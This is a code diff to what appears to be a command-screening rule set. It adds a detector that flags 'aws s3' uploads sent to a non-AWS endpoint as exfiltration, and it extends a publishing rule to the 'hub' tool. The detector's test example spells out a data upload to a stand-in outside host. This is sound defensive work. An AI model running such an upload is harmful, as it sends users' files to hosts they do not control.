@@ -69,6 +69,19 @@ def aws_storage(call: CommandCall) -> bool:
     )
 
 
+PROVIDER = re.compile(
+    r"https?://(?:localhost|127\.|0\.0\.0\.0|\[::1\]|host\.docker\.internal|[\w.-]+\.amazonaws\.com|\w+[:/])"
+)
+
+
+def uploads_elsewhere(call: CommandCall) -> bool:
+    """An upload to a host that is not the cloud's, though it looks like one to a bucket."""
+    address = call.arguments.value("--endpoint-url")
+    words = [each.text for each in call.arguments.operands]
+    uploads = words[1:2] in (["cp"], ["sync"], ["mv"], ["put-object"]) and not words[-1].startswith((".", "/"))
+    return address is not None and uploads and not PROVIDER.match(address.text)
+
+
 def says_delete(call: CommandCall) -> bool:
     words = [each.text for each in call.arguments.operands]
     if any(
@@ -187,6 +200,15 @@ RULES = (
     ),
     Rule(
         "aws",
+        "s3|s3api",
+        reason="uploads to a host that is not the cloud's",
+        where=uploads_elsewhere,
+        key="exfiltration",
+        yes="aws s3 cp a.csv s3://b --endpoint-url https://x.example",
+        no="aws s3 cp a.csv s3://b --endpoint-url http://localhost:4566",
+    ),
+    Rule(
+        "aws",
         "cloudformation|stepfunctions delete-stack|stop-execution",
         reason="deletes a stack",
         key="cloud",
@@ -227,7 +249,7 @@ RULES = (
         no="az role assignment list",
     ),
     Rule(
-        "gh glab",
+        "gh glab hub",
         "release create|upload|edit",
         reason="publishes files",
         key="cloud",
